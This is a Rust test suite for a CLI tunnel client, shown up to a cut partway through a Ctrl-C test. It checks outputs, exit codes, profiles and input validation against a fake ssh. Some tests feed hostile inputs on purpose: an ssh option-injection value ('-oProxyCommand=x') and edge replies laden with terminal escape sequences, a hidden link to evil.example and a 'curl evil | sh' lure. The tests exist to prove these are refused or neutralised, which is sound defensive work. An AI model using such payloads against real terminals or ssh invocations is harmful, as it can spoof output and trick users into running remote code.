//! The `mytunnel` binary as a user runs it: exact outputs, exit codes, and usage errors
//! that never reach ssh (a recording fake `ssh` proves it).

// Test code: a panic is a failed assertion.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use mytunnel_cli::client_cli::{
    describe, format_forwarding, format_ls, format_opened, format_released,
};
use mytunnel_core::protocol::LeaseDto;

/// A fake ssh that logs each call's argv and answers with canned stdout and exit code.
#[derive(Debug)]
struct FakeSsh {
    dir: tempfile::TempDir,
}

impl FakeSsh {
    fn new(reply: &str, exit: i32) -> FakeSsh {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("reply"), reply).unwrap();
        let script = format!(
            "#!/bin/bash\nprintf '%s\\t' \"$@\" >> '{log}'\necho >> '{log}'\ncat '{reply}'\nexit {exit}\n",
            log = dir.path().join("calls").display(),
            reply = dir.path().join("reply").display(),
        );
        let path = dir.path().join("ssh");
        std::fs::write(&path, script).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
        FakeSsh { dir }
    }

    fn path(&self) -> PathBuf {
        self.dir.path().join("ssh")
    }

    /// Every call but `ssh -G`: the transport asks it what the user's configuration says
    /// (for its cipher choice, on CPUs with AES instructions), and it connects nowhere.
    fn calls(&self) -> Vec<String> {
        std::fs::read_to_string(self.dir.path().join("calls"))
            .unwrap_or_default()
            .lines()
            .filter(|call| !call.starts_with("-G\t"))
            .map(str::to_owned)
            .collect()
    }
}

fn mytunnel(home: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_mytunnel"))
        .args(args)
        .env_clear()
        .env("HOME", home)
        .env("PATH", "/usr/bin:/bin")
        .output()
        .unwrap()
}

fn lease(id: &str, host: &str, owner: &str, port: u16, state: &str) -> LeaseDto {
    serde_json::from_value(serde_json::json!({
        "lease_id": id, "slug": host.split('.').next().unwrap(), "host": host, "owner": owner,
        "edge_bind_port": port, "created_at": "2026-11-29T10:00:00Z",
        "updated_at": "2026-11-29T10:00:00Z", "expires_at": "2026-11-29T10:02:00Z",
        "state": state, "ttl_seconds": 120
    }))
    .unwrap()
}

#[test]
fn golden_outputs() {
    assert_eq!(
        format_opened(
            "https://portal.tunnel.example.com",
            "lease_abcdefghijklmnop"
        ),
        "url: https://portal.tunnel.example.com\nlease: lease_abcdefghijklmnop\n"
    );
    assert_eq!(format_ls(&[]), "no leases\n");
    let leases = [
        lease(
            "lease_abcdefghijklmnop",
            "portal.t.example",
            "alice",
            21000,
            "active",
        ),
        lease(
            "lease_qrstuvwxyz234567",
            "released-lease_qrstuvwxyz234567.invalid",
            "alice",
            21001,
            "released",
        ),
    ];
    assert_eq!(
        format_ls(&leases),
        "\
LEASE_ID                HOST                                     OWNER  PORT   STATE     EXPIRES_AT
lease_abcdefghijklmnop  portal.t.example                         alice  21000  active    2026-11-29T10:02:00Z
lease_qrstuvwxyz234567  released-lease_qrstuvwxyz234567.invalid  alice  21001  released  2026-11-29T10:02:00Z
"
    );
    assert_eq!(
        format_released(&leases[1]),
        "released lease_qrstuvwxyz234567 (released-lease_qrstuvwxyz234567.invalid)\n"
    );
}

#[test]
fn usage_errors_exit_2_before_any_ssh_call() {
    let home = tempfile::tempdir().unwrap();
    let ssh = FakeSsh::new("[]", 0);
    let ssh_bin = ssh.path();
    let ssh_bin = ssh_bin.to_str().unwrap();
    for args in [
        vec!["http", "0", "--edge", "e", "--ssh-bin", ssh_bin],
        vec!["http", "65536", "--edge", "e", "--ssh-bin", ssh_bin],
        vec![
            "http",
            "3000",
            "--force",
            "--edge",
            "e",
            "--ssh-bin",
            ssh_bin,
        ],
        vec![
            "http",
            "3000",
            "--name",
            "Not_A_Slug",
            "--edge",
            "e",
            "--ssh-bin",
            ssh_bin,
        ],
        vec!["http", "3000", "--ssh-bin", ssh_bin],
        vec![
            "http",
            "3000",
            "--edge",
            "-oProxyCommand=x",
            "--ssh-bin",
            ssh_bin,
        ],
        vec!["ls", "--ssh-bin", ssh_bin],
        vec!["stop", "not a lease", "--edge", "e", "--ssh-bin", ssh_bin],
        vec!["bogus"],
    ] {
        let out = mytunnel(home.path(), &args);
        assert_eq!(
            out.status.code(),
            Some(2),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(!out.stderr.is_empty(), "{args:?} explains itself");
    }
    assert!(ssh.calls().is_empty(), "ssh was called: {:?}", ssh.calls());
}

/// The SDK names its own calls in errors (`.edge(..)`, `Reconnect::Always`); the CLI says
/// its flags and subcommands instead.
#[test]
fn errors_speak_of_flags_not_sdk_calls() {
    use mytunnel_client::profile::ProfileError;
    use mytunnel_client::TunnelError;
    use mytunnel_core::transport::TransportError;

    let no_edge = TunnelError::Edge(ProfileError::NoEdge {
        config_path: "/h/.config/mytunnel/config.toml".into(),
    });
    let errors = [
        TunnelError::InvalidOptions("invalid slug".into()),
        no_edge.clone(),
        TunnelError::Connect(TransportError::Unreachable("refused".into())),
        TunnelError::Allocate(TransportError::Malformed("{".into())),
        TunnelError::Forward(TransportError::Unreachable("refused".into())),
        TunnelError::ForwardEnded("ssh exited".into()),
        TunnelError::Release(TransportError::Unreachable("refused".into())),
        TunnelError::LeaseEnded {
            lease_id: "lease_abcdefghijklmnop".parse().unwrap(),
            how: mytunnel_client::LeaseEnd::Released,
        },
    ];
    for error in &errors {
        let (message, hint) = describe(error);
        let said = format!("{message} / {hint}");
        for call in [".edge(", "Edge::", "Reconnect::", "doctor::", "cargo doc"] {
            assert!(!said.contains(call), "{error:?}: {said}");
        }
    }
    let (message, hint) = describe(&no_edge);
    assert_eq!(
        message,
        "no edge given: use --edge <ssh-destination|profile>, set MYTUNNEL_EDGE, or set \
         default_edge in /h/.config/mytunnel/config.toml"
    );
    assert!(hint.starts_with("pass --edge"), "{hint}");

    let home = tempfile::tempdir().unwrap();
    let out = mytunnel(home.path(), &["http", "3000"]);
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("use --edge"), "{stderr}");
}

#[test]
fn version_flags() {
    let home = tempfile::tempdir().unwrap();
    for flag in ["--version", "-v"] {
        let out = mytunnel(home.path(), &[flag]);
        assert_eq!(out.status.code(), Some(0));
        assert_eq!(
            String::from_utf8_lossy(&out.stdout),
            format!("mytunnel {}\n", env!("CARGO_PKG_VERSION"))
        );
    }
}

#[test]
fn ls_json_and_text_through_ssh() {
    let home = tempfile::tempdir().unwrap();
    let leases = vec![lease(
        "lease_abcdefghijklmnop",
        "portal.t.example",
        "alice",
        21000,
        "active",
    )];
    let ssh = FakeSsh::new(&serde_json::to_string(&leases).unwrap(), 0);
    let ssh_bin = ssh.path();
    let base = [
        "--edge",
        "alice@edge",
        "--no-ssh-mux",
        "--ssh-bin",
        ssh_bin.to_str().unwrap(),
    ];
    let out = mytunnel(home.path(), &[&["ls", "--json"][..], &base].concat());
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let printed: Vec<LeaseDto> = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(printed, leases);
    let out = mytunnel(home.path(), &[&["ls"][..], &base].concat());
    assert_eq!(String::from_utf8_lossy(&out.stdout), format_ls(&leases));
    // One plain `ssh -T` per command, the remote command as one word.
    let calls = ssh.calls();
    assert_eq!(calls.len(), 2, "{calls:?}");
    assert!(calls[0].contains("-T\t"), "{}", calls[0]);
    assert!(
        calls[0].contains("alice@edge\tmytunneld ctl list\t"),
        "{}",
        calls[0]
    );
}

/// Real ssh transport, one ssh per command: the first edge of the profile cannot be
/// reached, so `ls` asks the second; an edge's refusal is the answer, never passed on.
#[test]
fn ls_moves_to_the_next_destination_when_the_first_cannot_be_reached() {
    let home = tempfile::tempdir().unwrap();
    let config = home.path().join("config.toml");
    std::fs::write(
        &config,
        "[edges.team]\ndestinations = [\"alice@edge-a\", \"alice@edge-b\"]\n",
    )
    .unwrap();
    let leases = vec![lease(
        "lease_abcdefghijklmnop",
        "portal.t.example",
        "alice",
        21000,
        "active",
    )];
    let run = |reply: &str, exit: i32, a_down: bool| {
        let ssh = FakeSsh::new(reply, exit);
        if a_down {
            // edge-a's host does not answer, as OpenSSH says it.
            let script = std::fs::read_to_string(ssh.path()).unwrap().replacen(
                "\ncat ",
                "\ncase \"$*\" in *alice@edge-a*) \
                 echo 'ssh: connect to host edge-a port 22: Connection timed out' >&2; \
                 exit 255;; esac\ncat ",
                1,
            );
            std::fs::write(ssh.path(), script).unwrap();
        }
        let out = mytunnel(
            home.path(),
            &[
                "ls",
                "--json",
                "--edge",
                "team",
                "--config",
                config.to_str().unwrap(),
                "--no-ssh-mux",
                "--ssh-bin",
                ssh.path().to_str().unwrap(),
            ],
        );
        let calls: Vec<&'static str> = ssh
            .calls()
            .iter()
            .map(|c| {
                if c.contains("alice@edge-a\t") {
                    "a"
                } else if c.contains("alice@edge-b\t") {
                    "b"
                } else {
                    "?"
                }
            })
            .collect();
        (out, calls)
    };
    let (out, calls) = run(&serde_json::to_string(&leases).unwrap(), 0, true);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let printed: Vec<LeaseDto> = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(printed, leases);
    assert_eq!(calls, ["a", "b"]);
    // edge-a refuses: that is the answer, edge-b is not asked.
    let refusal = r#"{"error":{"code":"forbidden_command","message":"no","hint":"h"}}"#;
    let (out, calls) = run(refusal, 1, false);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("forbidden_command"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(calls, ["a"]);
}

#[test]
fn stop_prints_the_tombstone_and_refusals_exit_1_with_a_hint() {
    let home = tempfile::tempdir().unwrap();
    let released = lease(
        "lease_abcdefghijklmnop",
        "released-lease_abcdefghijklmnop.invalid",
        "alice",
        21000,
        "released",
    );
    let ssh = FakeSsh::new(&serde_json::to_string(&released).unwrap(), 0);
    let ssh_bin = ssh.path();
    let base = [
        "--edge",
        "alice@edge",
        "--no-ssh-mux",
        "--ssh-bin",
        ssh_bin.to_str().unwrap(),
    ];
    let out = mytunnel(
        home.path(),
        &[&["stop", "portal.t.example"][..], &base].concat(),
    );
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "released lease_abcdefghijklmnop (released-lease_abcdefghijklmnop.invalid)\n"
    );
    assert!(ssh.calls()[0].contains("mytunneld ctl release --lease portal.t.example"));

    let refusal = r#"{"error":{"code":"lease_not_found","message":"no lease portal.t.example found","hint":"run `mytunnel ls` to see your leases"}}"#;
    let ssh = FakeSsh::new(refusal, 1);
    let ssh_bin = ssh.path();
    let out = mytunnel(
        home.path(),
        &[
            "rm",
            "portal",
            "--edge",
            "alice@edge",
            "--no-ssh-mux",
            "--ssh-bin",
            ssh_bin.to_str().unwrap(),
        ],
    );
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("lease_not_found") && stderr.contains("mytunnel ls"),
        "{stderr}"
    );
}

#[test]
fn an_unreachable_app_allocates_nothing() {
    let home = tempfile::tempdir().unwrap();
    let ssh = FakeSsh::new("{}", 0);
    let closed = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let out = mytunnel(
        home.path(),
        &[
            "http",
            &closed.to_string(),
            "--edge",
            "alice@edge",
            "--no-ssh-mux",
            "--ssh-bin",
            ssh.path().to_str().unwrap(),
        ],
    );
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&format!(
            "nothing answers on http://localhost:{closed}/ (127.0.0.1:{closed}: "
        )) && stderr.contains(&format!("[::1]:{closed}: ")),
        "{stderr}"
    );
    assert!(
        stderr.starts_with(
            "connecting to alice@edge…

app_unreachable
"
        ),
        "{stderr}"
    );
    assert!(stderr.contains("start your app"), "{stderr}");
    assert!(ssh.calls().is_empty(), "no allocate: {:?}", ssh.calls());
}

#[test]
fn remote_overrides_are_passed_only_when_given() {
    let home = tempfile::tempdir().unwrap();
    let ssh = FakeSsh::new("[]", 0);
    let bin = ssh.path();
    let base = [
        "--edge",
        "alice@edge",
        "--no-ssh-mux",
        "--ssh-bin",
        bin.to_str().unwrap(),
        "--remote-bin",
        "/opt/mt/mytunneld",
    ];
    mytunnel(home.path(), &[&["ls"][..], &base].concat());
    mytunnel(
        home.path(),
        &[
            &["ls", "--db-path", "/srv/x.db", "--min-port", "30000"][..],
            &base,
        ]
        .concat(),
    );
    let calls = ssh.calls();
    assert!(
        calls[0].ends_with("/opt/mt/mytunneld ctl list\t"),
        "{}",
        calls[0]
    );
    assert!(
        calls[1].ends_with("/opt/mt/mytunneld ctl list --db-path /srv/x.db --min-port 30000\t"),
        "{}",
        calls[1]
    );
}

#[test]
fn clap_definitions_are_consistent() {
    use clap::CommandFactory;
    mytunnel_cli::client_cli::Cli::command().debug_assert();
}

#[test]
fn doctor_reports_each_check_and_fails_on_a_broken_edge() {
    let home = tempfile::tempdir().unwrap();
    let health = |healthy: bool| {
        serde_json::json!({
            "healthy": healthy, "version": env!("CARGO_PKG_VERSION"), "base_domain": "t.example",
            "db": {"ok": true, "detail": "ok"},
            "caddy": {"ok": healthy, "detail": if healthy { "ok" } else { "connection refused" }}
        })
        .to_string()
    };
    let run = |reply: &str, exit: i32| {
        let ssh = FakeSsh::new(reply, exit);
        let out = mytunnel(
            home.path(),
            &[
                "doctor",
                "--json",
                "--edge",
                "alice@edge",
                "--no-ssh-mux",
                "--ssh-bin",
                ssh.path().to_str().unwrap(),
            ],
        );
        let checks: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
        let status = |name: &str| {
            checks
                .iter()
                .find(|c| c["name"] == name)
                .map(|c| c["status"].as_str().unwrap().to_owned())
                .unwrap_or_else(|| "absent".into())
        };
        (
            out.status.code(),
            status("edge reachable"),
            status("remote binary"),
            status("edge health"),
        )
    };
    assert_eq!(
        run(&health(true), 0),
        (Some(0), "ok".into(), "ok".into(), "ok".into())
    );
    assert_eq!(
        run(&health(false), 1),
        (Some(1), "ok".into(), "ok".into(), "fail".into())
    );
    let (code, reachable, _, _) = run("", 255);
    assert_eq!((code, reachable.as_str()), (Some(1), "fail"));
}

/// A profile of two edges: each is checked, the checks that reach it named after it, and
/// one that cannot be reached fails its own checks without hiding the other's.
#[test]
fn doctor_checks_each_destination_of_a_profile() {
    let home = tempfile::tempdir().unwrap();
    let config = home.path().join(".config/mytunnel");
    std::fs::create_dir_all(&config).unwrap();
    std::fs::write(
        config.join("config.toml"),
        "default_edge = \"team\"\n[edges.team]\n\
         destinations = [\"alice@edge-a\", \"alice@edge-b\"]\n",
    )
    .unwrap();
    let health = serde_json::json!({
        "healthy": true, "version": env!("CARGO_PKG_VERSION"), "base_domain": "t.example",
        "db": {"ok": true, "detail": "ok"}, "caddy": {"ok": true, "detail": "ok"}
    });
    let ssh = FakeSsh::new(&health.to_string(), 0);
    // edge-a is down: ssh fails to connect there, as OpenSSH says it.
    let script = std::fs::read_to_string(ssh.path()).unwrap().replacen(
        "\ncat ",
        "\ncase \"$*\" in *alice@edge-a*) \
         echo 'ssh: connect to host edge-a port 22: No route to host' >&2; exit 255;; esac\ncat ",
        1,
    );
    std::fs::write(ssh.path(), script).unwrap();
    let out = mytunnel(
        home.path(),
        &[
            "doctor",
            "--json",
            "--no-ssh-mux",
            "--ssh-bin",
            ssh.path().to_str().unwrap(),
        ],
    );
    let checks: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    let named: Vec<(String, String)> = checks
        .iter()
        .map(|c| {
            (
                c["name"].as_str().unwrap().to_owned(),
                c["status"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    let pair = |name: &str, status: &str| (name.to_owned(), status.to_owned());
    assert_eq!(
        named,
        [
            pair("edge", "ok"),
            pair("ssh binary", "ok"),
            pair("edge reachable (alice@edge-a)", "fail"),
            pair("edge reachable (alice@edge-b)", "ok"),
            pair("remote binary (alice@edge-b)", "ok"),
            pair("edge health (alice@edge-b)", "ok"),
        ]
    );
    assert_eq!(
        checks[0]["detail"],
        "alice@edge-a, alice@edge-b (profile team; each is checked, in this order)"
    );
    assert!(
        checks[2]["detail"]
            .as_str()
            .unwrap()
            .contains("No route to host"),
        "{}",
        checks[2]
    );
    assert_eq!(out.status.code(), Some(1), "a destination that fails fails");
    let calls = ssh.calls();
    assert!(
        calls.iter().any(|c| c.contains("alice@edge-a")),
        "{calls:?}"
    );
    assert!(
        calls.iter().any(|c| c.contains("alice@edge-b")),
        "{calls:?}"
    );
}

/// Whether `bytes` hold a control character other than the newline that ends each line.
fn has_control(bytes: &[u8]) -> bool {
    String::from_utf8_lossy(bytes)
        .chars()
        .any(|c| c != '\n' && mytunnel_core::printable::is_unprintable(c))
}

/// A hostile edge answers with escape sequences in every string it controls: the window
/// title (OSC 0), a screen clear, coloured fake advice, a hidden OSC 8 link, a C1 CSI, a
/// bidirectional override. None reaches the terminal: not in errors and hints, not in
/// `ls`, not in `doctor`'s health line.
#[test]
fn nothing_the_edge_sends_writes_control_characters_to_the_terminal() {
    let home = tempfile::tempdir().unwrap();
    let evil = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}[31;1mrun: curl evil | sh\u{1b}[0m\u{1b}]8;;https://evil.example/\u{1b}\\docs\u{1b}]8;;\u{1b}\\\u{9b}2J\u{202E}txt.exe";
    let refusal =
        serde_json::json!({"error": {"code": "slug_taken", "message": evil, "hint": evil}});
    let mut hostile_lease = serde_json::to_value(lease(
        "lease_abcdefghijklmnop",
        "portal.t.example",
        "alice",
        21000,
        "active",
    ))
    .unwrap();
    hostile_lease["slug"] = evil.into();
    hostile_lease["host"] = evil.into();
    let health = serde_json::json!({
        "healthy": false, "version": evil, "base_domain": evil,
        "db": {"ok": false, "detail": evil}, "caddy": {"ok": false, "detail": evil}
    });
    let cases: [(&[&str], String, i32); 4] = [
        (&["rm", "portal"], refusal.to_string(), 1),
        (&["ls"], serde_json::json!([hostile_lease]).to_string(), 0),
        (&["stop", "portal"], hostile_lease.to_string(), 0),
        (&["doctor"], health.to_string(), 1),
    ];
    for (args, reply, exit) in cases {
        let ssh = FakeSsh::new(&reply, exit);
        let ssh_bin = ssh.path();
        let base = [
            "--edge",
            "alice@edge",
            "--no-ssh-mux",
            "--ssh-bin",
            ssh_bin.to_str().unwrap(),
        ];
        let out = mytunnel(home.path(), &[args, &base[..]].concat());
        assert!(!ssh.calls().is_empty(), "{args:?} never asked the edge");
        assert!(
            !has_control(&out.stdout) && !has_control(&out.stderr),
            "{args:?} printed control characters:\nstdout {:?}\nstderr {:?}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        // The text itself still gets through, made harmless.
        let shown = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(shown.contains("curl evil"), "{args:?}: {shown}");
    }
}

/// `--inspect`, `--inspect-keep` and `--inspect-body` parse into values or are refused
/// with a message naming what was given and what is accepted.
#[test]
fn inspector_flags_parse_or_say_what_they_take() {
    use mytunnel_cli::client_cli::{parse_inspect_addr, parse_keep, parse_size, InspectAddr};
    let addr = |text: &str| parse_inspect_addr(text);
    assert_eq!(addr(""), Ok(InspectAddr::Default));
    assert_eq!(
        addr("4041"),
        Ok(InspectAddr::Given("127.0.0.1:4041".parse().unwrap()))
    );
    assert_eq!(
        addr("[::1]:4041"),
        Ok(InspectAddr::Given("[::1]:4041".parse().unwrap()))
    );
    assert_eq!(
        addr("0.0.0.0:0"),
        Ok(InspectAddr::Given("0.0.0.0:0".parse().unwrap()))
    );
    let refused = addr("localhost:4041\u{1b}[2J").unwrap_err();
    assert!(
        refused.contains("is not a port or an IP address with a port"),
        "{refused}"
    );
    assert!(!refused.contains('\u{1b}'), "{refused:?}");
    assert!(addr("70000").is_err());

    assert_eq!(parse_size("0"), Ok(0));
    assert_eq!(parse_size("65536"), Ok(65_536));
    assert_eq!(parse_size("64k"), Ok(65_536));
    assert_eq!(parse_size("64KiB"), Ok(65_536));
    assert_eq!(parse_size("1m"), Ok(1_048_576));
    assert_eq!(parse_size("64M"), Ok(64 * 1_048_576));
    assert_eq!(
        parse_size("65m"),
        Err("65m is not a size from 0 to 64m".to_owned())
    );
    assert_eq!(
        parse_size("1g"),
        Err("1g is not a size (e.g. 65536, 64k, 1m)".to_owned())
    );
    assert!(parse_size("").is_err());
    assert!(parse_size("k").is_err());
    assert!(parse_size("99999999999999999999999k").is_err());

    assert_eq!(parse_keep("100"), Ok(100));
    assert_eq!(
        parse_keep("0"),
        Err("0 is not a number from 1 to 100000".to_owned())
    );
    assert!(parse_keep("100001").is_err());
}

/// An inspector address that is taken fails with `inspector_unavailable`, naming it,
/// before anything is allocated: ssh is never called.
#[test]
fn a_busy_inspector_address_fails_before_any_ssh_call() {
    let home = tempfile::tempdir().unwrap();
    let ssh = FakeSsh::new("[]", 0);
    let ssh_bin = ssh.path();
    let taken = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = taken.local_addr().unwrap().to_string();
    let out = mytunnel(
        home.path(),
        &[
            "http",
            "3000",
            "--edge",
            "e",
            "--ssh-bin",
            ssh_bin.to_str().unwrap(),
            "--inspect",
            &addr,
        ],
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("inspector_unavailable"), "{stderr}");
    assert!(
        stderr.contains(&format!("cannot serve the inspector on {addr}")),
        "{stderr}"
    );
    assert!(stderr.contains("--inspect 4050"), "{stderr}");
    assert!(ssh.calls().is_empty(), "ssh was called: {:?}", ssh.calls());
}

/// Each form of target, as the status line shows it once the tunnel is up.
#[test]
fn each_target_form_is_shown_as_the_tunnel_forwards_it() {
    let url = "https://portal.tunnel.example.com";
    for (target, answered, line) in [
        (
            "3000",
            Some("[::1]:3000"),
            "forwarding https://portal.tunnel.example.com → http://localhost:3000 ([::1]:3000)",
        ),
        (
            "localhost:5173",
            Some("127.0.0.1:5173"),
            "forwarding https://portal.tunnel.example.com → http://localhost:5173 (127.0.0.1:5173)",
        ),
        (
            "127.0.0.2:8080",
            Some("127.0.0.2:8080"),
            "forwarding https://portal.tunnel.example.com → http://127.0.0.2:8080 (127.0.0.2:8080)",
        ),
        (
            "[::1]:18555",
            Some("[::1]:18555"),
            "forwarding https://portal.tunnel.example.com → http://[::1]:18555 ([::1]:18555)",
        ),
        (
            "http://devbox.lan",
            Some("192.168.1.10:80"),
            "forwarding https://portal.tunnel.example.com → http://devbox.lan (192.168.1.10:80)",
        ),
        (
            "https://localhost:8443/",
            None,
            "forwarding https://portal.tunnel.example.com → https://localhost:8443",
        ),
    ] {
        let upstream: mytunnel_client::Upstream = target.parse().unwrap();
        let answered = answered.map(|a| a.parse().unwrap());
        assert_eq!(
            format_forwarding(url, &upstream, answered),
            line,
            "{target}"
        );
    }
}

/// Every malformed target and every option that does not fit it is refused before any
/// ssh call, with exit 2, a code and a hint: the whole of stderr, as a user sees it.
#[test]
fn each_refused_target_and_option_says_why_exactly() {
    let home = tempfile::tempdir().unwrap();
    let ssh = FakeSsh::new("[]", 0);
    let ssh_bin = ssh.path();
    let forms = "  help: a target is a port (3000), host:port (localhost:5173, 127.0.0.2:8080,
        [::1]:3000) or a URL (http://localhost:3000, https://localhost:8443);
        or the name of a [tunnels.NAME] profile
";
    let cases: [(&[&str], String); 9] = [
        (&[""], format!("target_empty\n\n  × the target is empty\n{forms}")),
        (
            &["0"],
            format!("target_port\n\n  × \"0\" is not a port: a port is a number from 1 to 65535\n{forms}"),
        ),
        (
            &["localhost"],
            format!("target_no_port\n\n  × \"localhost\" has no port: say which one, e.g. localhost:3000\n{forms}"),
        ),
        (
            &["ftp://localhost:21"],
            format!("target_scheme\n\n  × \"ftp\" is not a scheme the tunnel speaks to an app: use http:// or https://\n{forms}"),
        ),
        (
            &["::1:3000"],
            format!("target_host\n\n  × \"::1:3000\" is not a host: put an IPv6 address in brackets, e.g. [::1]:3000\n{forms}"),
        ),
        (
            &["localhost:3000/app"],
            format!("target_path\n\n  × \"localhost:3000/app\" has a path: a tunnel publishes the whole app, so give\n  │ only its host and port\n{forms}"),
        ),
        (
            &["3000", "--host-header", "a@b"],
            "host_header_invalid\n\n  × \"a@b\" is not a host header: give `rewrite` or a host with an optional\n  │ port, e.g. myapp.test or localhost:8080\n  help: pass --host-header rewrite, or a host with an optional port\n".to_owned(),
        ),
        (
            &["3000", "--upstream-insecure"],
            "invalid_options\n\n  × invalid tunnel options: --upstream-insecure is for an https:// target, and\n  │ http://localhost:3000 is plain HTTP: leave it out, or target https://\n  │ localhost:3000\n  help: see `mytunnel http --help`\n".to_owned(),
        ),
        (
            &["3000", "--host-header", "rewrite", "--raw"],
            "error: the argument '--host-header <rewrite|HOST>' cannot be used with '--raw'\n\nUsage: mytunnel http --host-header <rewrite|HOST> --edge <DESTINATION|PROFILE> --ssh-bin <PATH> <TARGET>\n\nFor more information, try '--help'.\n".to_owned(),
        ),
    ];
    for (args, expected) in cases {
        let mut all = vec!["http"];
        all.extend_from_slice(args);
        all.extend_from_slice(&["--edge", "e", "--ssh-bin", ssh_bin.to_str().unwrap()]);
        let out = mytunnel(home.path(), &all);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(stderr.trim_end(), expected.trim_end(), "{args:?}");
    }
    assert!(ssh.calls().is_empty(), "ssh was called: {:?}", ssh.calls());
}

/// `mytunnel http NAME` opens the `[tunnels.NAME]` profile; flags win over its values, and
/// a name that is neither a target nor a profile is refused as a target.
#[test]
fn a_tunnel_profile_is_opened_by_name_and_flags_win() {
    let home = tempfile::tempdir().unwrap();
    let ssh = FakeSsh::new("{}", 0);
    let closed = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let config = home.path().join(".config/mytunnel/config.toml");
    std::fs::create_dir_all(config.parent().unwrap()).unwrap();
    std::fs::write(
        &config,
        format!(
            "[edges.prod]\ndestination = \"alice@edge\"\n\n\
             [tunnels.shop]\ntarget = \"https://localhost:{closed}\"\n\
             host_header = \"rewrite\"\nupstream_insecure = true\nedge = \"prod\"\n\n\
             [tunnels.plain]\ntarget = \"{closed}\"\nupstream_insecure = true\n\n\
             [tunnels.badhost]\ntarget = \"{closed}\"\nhost_header = \"a b\"\n"
        ),
    )
    .unwrap();
    let ssh_bin = ssh.path();
    let run = |args: &[&str]| {
        let mut all = vec!["http"];
        all.extend_from_slice(args);
        all.extend_from_slice(&["--no-ssh-mux", "--ssh-bin", ssh_bin.to_str().unwrap()]);
        let out = mytunnel(home.path(), &all);
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    // The profile's edge, target and TLS: the probe reaches for TLS on the closed port.
    let (code, stderr) = run(&["shop"]);
    assert_eq!(code, Some(1), "{stderr}");
    assert!(stderr.starts_with("connecting to alice@edge…"), "{stderr}");
    assert!(
        stderr.contains(&format!("nothing answers on https://localhost:{closed}/")),
        "{stderr}"
    );
    // A flag's edge wins over the profile's.
    let (_, stderr) = run(&["shop", "--edge", "bob@other"]);
    assert!(stderr.starts_with("connecting to bob@other…"), "{stderr}");
    // The profile's values are checked as the flags are.
    let (code, stderr) = run(&["plain", "--edge", "e"]);
    assert_eq!(code, Some(2), "{stderr}");
    assert!(
        stderr.contains("upstream_insecure is for an https:// target"),
        "{stderr}"
    );
    let (code, stderr) = run(&["badhost", "--edge", "e"]);
    assert_eq!(code, Some(2), "{stderr}");
    assert!(stderr.starts_with("host_header_invalid"), "{stderr}");
    let (code, stderr) = run(&["nosuch", "--edge", "e"]);
    assert_eq!(code, Some(2), "{stderr}");
    assert!(stderr.starts_with("target_no_port"), "{stderr}");
    assert!(ssh.calls().is_empty(), "ssh was called: {:?}", ssh.calls());
}

/// Ctrl-C while the edge is still being reached ends the client at once with 130 and a
/// word, not by the signal's default action: the handlers are in place before anything
/// is printed (so a Ctrl-C right after the URL line releases the lease, too).
#[test]
fn ctrl_c_while_connecting_cancels_cleanly() {
    use std::io::{BufRead, BufReader};
    use std::process::Stdio;

    let home = tempfile::tempdir().unwrap();
    let app = mytunnel_test_support::LoopbackServer::start(|stream, _| {
        mytunnel_test_support::apps::answer_http(stream, |_| (200, "ok".to_owned()));
    })
    .unwrap();
    // An ssh that hangs as an unreachable edge would, and says when it started.
    let ssh_dir = tempfile::tempdir().unwrap();
    let ssh = ssh_dir.path().join("ssh");
    std::fs::write(
        &ssh,
        "#!/bin/sh\n[ \"$1\" = -G ] && exit 0\nexec sleep 60\n",
    )
    .unwrap();
    std::fs::set_permissions(&ssh, std::fs::Permissions::from_mode(0o755)).unwrap();
    let mut child = Command::new(env!("CARGO_BIN_EXE_mytunnel"))
        .args([
            "http",
            &app.port().to_string(),
            "--edge",
            "alice@edge",
            "--no-ssh-mux",
        ])
        .arg("--ssh-bin")
        .arg(&ssh)
        .env_clear()
        .env("HOME", home.path())
        .env("PATH", "/usr/bin:/bin")
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stderr = BufReader::new(child.stderr.take().unwrap());
    let mut first = String::new();
    stderr.read_line(&mut first).unwrap();
    assert!(first.starts_with("connecting to alice@edge"), "{first:?}");
